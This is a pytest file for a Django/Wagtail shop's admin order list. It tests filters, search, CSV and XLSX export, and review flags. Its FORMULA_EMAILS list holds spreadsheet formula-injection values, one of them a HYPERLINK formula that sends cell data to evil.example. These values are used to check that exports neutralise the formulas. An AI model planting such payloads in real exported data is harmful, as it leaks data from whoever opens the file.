"""Shop managers find and export orders in the Wagtail admin's order list."""

import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from orders.models import Order, OrderItem
from orders.tests.factories import make_order
from orders.tests.helpers import (
    ADMIN_ORDERS_URL,
    ORDERS_PANEL,
    admin_order_url,
    created_days_ago,
    csv_rows,
    references_in,
)

pytestmark = pytest.mark.django_db

Status = Order.Status


def test_listing_shows_newest_orders_first_with_status_total_email_and_item_count(
    manager_client,
):
    older = created_days_ago(make_order(customer_email="old@example.com"), 3)
    newer = make_order(status=Status.PAID, total="42.50", customer_email="new@example.com")
    OrderItem.objects.create(order=newer, product_name="Cable", unit_price=1, quantity=3)

    response = manager_client.get(ADMIN_ORDERS_URL)

    assert response.status_code == 200
    assert references_in(response.content, older, newer) == [newer.reference, older.reference]
    rows = {order.reference: order for order in response.context["object_list"]}
    assert rows[newer.reference].unit_count == 4
    assert rows[older.reference].unit_count == 1
    page = response.content.decode()
    assert "$42.50" in page and "new@example.com" in page and "Paid" in page


def test_listing_query_count_does_not_grow_with_the_number_of_orders(manager_client):
    make_order()
    manager_client.get(ADMIN_ORDERS_URL)
    with CaptureQueriesContext(connection) as few:
        manager_client.get(ADMIN_ORDERS_URL)
    for _ in range(6):
        make_order(owner_key="session:another-shopper", checkout_open=False)

    with CaptureQueriesContext(connection) as many:
        response = manager_client.get(ADMIN_ORDERS_URL)

    assert len(response.context["object_list"]) == 7
    assert len(many) == len(few)


def test_status_filter_lists_only_orders_in_that_status(manager_client):
    paid = make_order(status=Status.PAID)
    pending = make_order(owner_key="session:someone-else")

    response = manager_client.get(ADMIN_ORDERS_URL, {"status": "paid"})

    assert references_in(response.content, paid, pending) == [paid.reference]


def test_created_date_range_filter_leaves_out_older_orders(manager_client):
    recent = created_days_ago(make_order(), 1)
    old = created_days_ago(make_order(owner_key="session:someone-else"), 10)
    since = (timezone.localdate() - timedelta(days=3)).isoformat()

    response = manager_client.get(ADMIN_ORDERS_URL, {"created_at_from": since})

    assert references_in(response.content, recent, old) == [recent.reference]


def test_pending_for_over_an_hour_filter_finds_stuck_checkouts(manager_client):
    stuck = make_order()
    Order.objects.filter(pk=stuck.pk).update(created_at=timezone.now() - timedelta(hours=2))
    fresh = make_order(owner_key="session:someone-else")

    response = manager_client.get(ADMIN_ORDERS_URL, {"stale": "true"})

    assert references_in(response.content, stuck, fresh) == [stuck.reference]


@pytest.mark.parametrize(
    "query",
    ["reference", "customer_email", "stripe_checkout_session_id", "stripe_payment_intent_id"],
)
def test_search_finds_an_order_by_reference_email_or_stripe_ids(manager_client, query):
    wanted = make_order(
        status=Status.PAID,
        customer_email="ada@example.com",
        session_id="cs_test_wanted",
        payment_intent_id="pi_wanted",
    )
    other = make_order(
        owner_key="session:someone-else",
        customer_email="grace@example.com",
        session_id="cs_test_other",
        payment_intent_id="pi_other",
    )

    response = manager_client.get(ADMIN_ORDERS_URL, {"q": getattr(wanted, query)})

    assert references_in(response.content, wanted, other) == [wanted.reference]


def test_csv_export_holds_exactly_the_filtered_orders(manager_client):
    paid = make_order(status=Status.PAID, total="42.50", payment_intent_id="pi_paid")
    make_order(owner_key="session:someone-else")

    response = manager_client.get(ADMIN_ORDERS_URL, {"status": "paid", "export": "csv"})

    assert response["Content-Disposition"] == 'attachment; filename="orders.csv"'
    header, *rows = csv_rows(response)
    assert header == [
        "Reference",
        "Status",
        "Total",
        "Amount refunded",
        "Customer email",
        "Created",
        "Paid",
        "Stripe Checkout Session",
        "Stripe PaymentIntent",
        "Charged currency",
        "Items charged",
        "Discount",
        "Promotion code",
        "Shipping rate",
        "Shipping",
        "Tax added",
        "Tax included in prices",
        "Total charged",
        "Ship to",
        "Address line 1",
        "Address line 2",
        "City",
        "Postal code",
        "State or region",
        "Country",
        "Phone",
    ]
    assert len(rows) == 1
    assert rows[0][:5] == [paid.reference, "Paid", "42.50", "0.00", "shopper@example.com"]
    assert rows[0][7:9] == [paid.stripe_checkout_session_id, "pi_paid"]


def test_xlsx_export_holds_the_searched_orders(manager_client):
    wanted = make_order(customer_email="ada@example.com")
    make_order(owner_key="session:someone-else", customer_email="grace@example.com")

    response = manager_client.get(ADMIN_ORDERS_URL, {"q": "ada@", "export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert [row[0] for row in rows] == ["Reference", wanted.reference]
    assert rows[1][4] == "ada@example.com"


FORMULA_EMAILS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")@example.com',
    "+1+2@example.com",
    "-1-2@example.com",
    "@SUM(1+1)@example.com",
    "\t=1@example.com",
    "\r=1@example.com",
]


def test_csv_export_shows_formula_like_emails_as_text_not_formulas(manager_client):
    for number, email in enumerate(FORMULA_EMAILS):
        make_order(owner_key=f"session:{number}", customer_email=email)
    make_order(owner_key="session:plain", customer_email="plain@example.com")

    response = manager_client.get(ADMIN_ORDERS_URL, {"export": "csv"})

    emails = sorted(row[4] for row in csv_rows(response)[1:])
    assert emails == sorted(["plain@example.com", *(f"'{email}" for email in FORMULA_EMAILS)])


def test_xlsx_export_keeps_formula_like_emails_as_text(manager_client):
    make_order(customer_email=FORMULA_EMAILS[0])

    response = manager_client.get(ADMIN_ORDERS_URL, {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    email_cell = list(sheet.iter_rows())[1][4]
    assert (email_cell.value, email_cell.data_type) == (FORMULA_EMAILS[0], "s")


def test_orders_needing_review_are_marked_filtered_explained_and_counted(manager_client):
    flagged = make_order(
        status=Status.PAID,
        total="199.99",
        paid_at=timezone.now(),
        charged_currency="eur",
        charged_total=1,
        review_reasons="Stripe charged in EUR, but the order is in USD.",
    )
    fine = make_order(owner_key="session:fine", status=Status.PAID, paid_at=timezone.now())

    listing = manager_client.get(ADMIN_ORDERS_URL)
    needing_review = manager_client.get(ADMIN_ORDERS_URL, {"needs_review": "true"})
    order_page = manager_client.get(admin_order_url(flagged)).content.decode()
    panel = manager_client.get("/admin/").content.decode()
    panel = panel[panel.index(ORDERS_PANEL) :]

    rows = listing.content.decode().split("<tr")
    [flagged_row] = [row for row in rows if flagged.reference in row]
    [fine_row] = [row for row in rows if fine.reference in row]
    assert "Needs review" in flagged_row and "Needs review" not in fine_row
    assert references_in(needing_review.content, flagged, fine) == [flagged.reference]
    assert "Needs review." in order_page
    assert "Stripe charged in EUR, but the order is in USD." in order_page
    assert "1 in EUR (smallest units)" in order_page
    assert f"{ADMIN_ORDERS_URL}?needs_review=true" in panel
    review_row = panel[panel.index("Needs review") :]
    assert review_row.index("1 order") < review_row.index("</tr>")
